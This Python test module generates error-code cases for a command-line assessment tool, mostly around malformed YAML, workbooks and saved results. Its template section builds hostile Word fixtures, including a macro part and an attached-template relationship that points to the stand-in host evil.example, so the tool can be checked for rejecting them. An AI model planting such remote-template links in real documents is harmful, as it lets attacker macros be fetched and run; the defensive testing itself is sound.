"""A command that raises each code, to be run: files that are broken elsewhere, and what is not in any file."""

from __future__ import annotations

import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import docx

from tests.forms.broken_cells import Case, corpus
from tests.forms.workbook_builder import Book, filled, packed, parts_of
from tests.reports.factories import judged
from tests.reports.figures import plain

ROOT = Path(__file__).parent.parent.parent
INPUTS = ROOT / "tests" / "inputs"
EXAMPLE = str(ROOT / "examples" / "tongbai-peanut.yaml")
CLAUSES = str(ROOT / "tests" / "shelf" / "clauses_only.yaml")
YEARS = ("2023年", "2024年", "2025年")


class Raising(NamedTuple):
    """A command, the files it needs beside it, and a code that it ends in."""

    code: str
    words: tuple[str, ...]
    files: dict[str, bytes] = {}


def everything() -> Iterator[Raising]:
    yield from broken_inputs()
    yield from broken_forms()
    yield from questions()
    yield from wrong_words()
    yield from saved_results()
    yield from templates()


def broken_inputs() -> Iterator[Raising]:
    """The fixtures of inputs/, which say themselves what is to be expected."""
    for path in sorted(INPUTS.rglob("*.yaml")):
        command = ("check",) if path.parent.name == "profiles" else ("rubrics", "lint")
        head = path.read_text(encoding="utf-8")
        yield Raising(head.partition("# expect: ")[2][:4], (*command, str(path)))


def broken_forms() -> Iterator[Raising]:
    """The first workbook of the corpus for each code, and what only a marked copy asks."""
    first: dict[str, Case] = {}
    for case in sorted(corpus(), key=lambda case: case.apart):
        if case.code:
            first.setdefault(case.code, case)
    for case in first.values():
        yield Raising(case.code, ("check", case.file), {case.file: case.make()})
    yield Raising("W203", ("check", "form.xlsx"), {"form.xlsx": known_without_a_value().bytes()})
    drawn = packed(
        parts_of(in_words().bytes()) | {"xl/drawings/drawing9.xml": b"<xdr:wsDr><xdr:sp macro=''/></xdr:wsDr>"}
    )
    yield Raising("N213", ("check", "form.xlsx", "--marked", "marked.xlsx"), {"form.xlsx": drawn})
    yield Raising("E123", ("check", "form.xlsx", "--marked", "form.xlsx"), {"form.xlsx": filled().bytes()})


def known_without_a_value() -> Book:
    book = filled()
    for heading in (*YEARS, "未注明年份"):
        book[book.fact("exchange_events", heading)] = None
    book[book.fact("exchange_events", "数据状态")] = "有数"
    return book


def in_words() -> Book:
    book = filled()
    book[book.fact("output", YEARS[-1])] = "无"
    return book


def questions() -> Iterator[Raising]:
    """What is possible and asked about."""
    for code, text in {
        "N215": "facts: {output: {value: 5, year: 2024, months: 8}}",
        "W201": "facts: {output: 3600}",
        "W202": "facts: {output: {2023: 20, 2024: 104}}",
        "W205": "facts: {output: {2023: 4.1, 2024: 41000}}",
        "W206": "facts: {sales: 10}\nfirms: [{name: 乙, sales: 8}, {name: 丙, sales: 9}]",
        "W207": "filing: {coverage: all}\nfacts: {output: {value: 10, note: 规上数}}",
        "W210": "facts: {output: [{value: 10, source: 甲}, {value: 12, source: 乙}]}",
        "W211": "facts: {output: [{value: 10, coverage: all}, {value: 6, coverage: above_scale}]}",
        "W212": "facts: {output: {value: 10, note: 1—8月累计}}",
        "W208": "facts: {output: 100, core_output: 70, core_share: 50}",
        "W219": "firms: [{name: 甲, sales: 3}, {name: 合计, sales: 3}]",
        "W220": "facts: {output: 120, firms: 5000, employees: 30000}",
        "W221": "facts: {sales: {2023: 20, 2024: 22}, sales_growth: {2024: 35}}",
        "W222": "facts: {sales: [{year: 2024, value: 88}, {year: 2024, value: 71}]}\nfirms: [{name: 乙, sales: 74}]",
        "W223": "targets:\n"
        "- {fact: sales, value: 1, year: 2030, document: 甲}\n- {fact: sales, value: 2, year: 2030, document: 乙}",
    }.items():
        yield Raising(code, ("check", "p.yaml"), {"p.yaml": profile(text)})


def profile(rest: str) -> bytes:
    return f"cluster: 甲\nyear: 2024\n{rest}\n".encode()


def wrong_words() -> Iterator[Raising]:
    """Commands that ask for what is not there or cannot be."""
    here, large, long = profile("facts: {output: 5}"), b"# " + b"x" * 6_000_000, profile(f"place: {'长' * 40_000}")
    yield Raising("E101", ("score", "none.yaml"))
    yield Raising("E102", ("score", "."))
    yield Raising("E103", ("score", "p.yaml"), {"p.yaml": large})
    yield Raising("E104", ("score", "p.yaml"), {"p.yaml": "cluster: 桐柏\n".encode("gbk")})
    yield Raising("E111", ("template", "-o", "form.pdf"))
    yield Raising("E113", ("score", "a\0b.yaml"))
    yield Raising("E114", ("score", EXAMPLE, "-o", "no/such/folder/x.md"))
    yield Raising("E125", ("template", "--from", "p.yaml", "-o", "f.xlsx"), {"p.yaml": long})
    yield Raising("E301", ("score", EXAMPLE, "-r", "cluster-upgrade"))
    yield Raising("E501", ("explain", EXAMPLE, "SP99"))
    yield Raising("E502", ("explain", "E999"))
    yield Raising("E503", ("scor",))
    yield Raising("E504", ("advise", EXAMPLE, "--target", "godo"))
    yield Raising("E505", ("score", EXAMPLE, "--set", "output"))
    yield Raising("E506", ("explain", EXAMPLE, "LF03", "-r", "cluster-upgrading", "-r", "cluster-context"))
    yield Raising("E507", ("score", "p.yaml", "-o", "p.yaml"), {"p.yaml": here})
    yield Raising("E508", ("advise", EXAMPLE, "--mode", "proces"))
    yield Raising("E509", ("advise", EXAMPLE, "--by", "rolle"))
    yield Raising("E510", ("rubrics", "show", "cluster-context", "--where", "a=b"))
    yield Raising("E511", ("rubrics", "show", "country-policies", "--where", "contry=austria"))
    yield Raising("E512", ("rubrics", "show", "country-policies", "--where", "instruments=procurment"))
    yield Raising("E513", ("advise", EXAMPLE, "-r", CLAUSES, "--target", "good"))
    yield Raising("E621", ("report", EXAMPLE, "-o", "r.pdf"))
    yield Raising("E623", ("report", EXAMPLE, "-o", "r.html", "--template", "x.docx"))
    yield Raising("E624", ("report", EXAMPLE, "-o", "r.docx", "--date", "20.11.2026"))


def saved_results() -> Iterator[Raising]:
    schema = '{"schema": "assess/result/%s"%s}'
    for code, text in {
        "E601": "{",
        "E602": '{"schema": "x"}',
        "E603": schema % (0, ""),
        "E604": schema % (1, ', "score": NaN'),
        "E605": schema % (1, ""),
    }.items():
        yield Raising(code, ("report", "r.json", "-o", "r.md"), {"r.json": text.encode()})
    saved = json.dumps(plain(judged("tongbai-peanut"))).encode()
    yield Raising("E622", ("report", "r.json", "-r", "cluster-context", "-o", "r.md"), {"r.json": saved})


def templates() -> Iterator[Raising]:
    """An empty document of Word's, and what must not be in one."""
    document = io.BytesIO()
    docx.Document().save(document)
    parts = parts_of(document.getvalue())
    links, link = (
        "word/_rels/document.xml.rels",
        (
            b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
            b'attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/></Relationships>'
        ),
    )
    for code, more in {
        "E612": {"word/styles.xml": b"<w:"},
        "E613": {"word/vbaProject.bin": b"x"},
        "E614": {links: parts[links].replace(b"</Relationships>", link)},
    }.items():
        words = ("report", EXAMPLE, "-o", "r.docx", "--template", "house.docx")
        yield Raising(code, words, {"house.docx": packed(parts | more)})
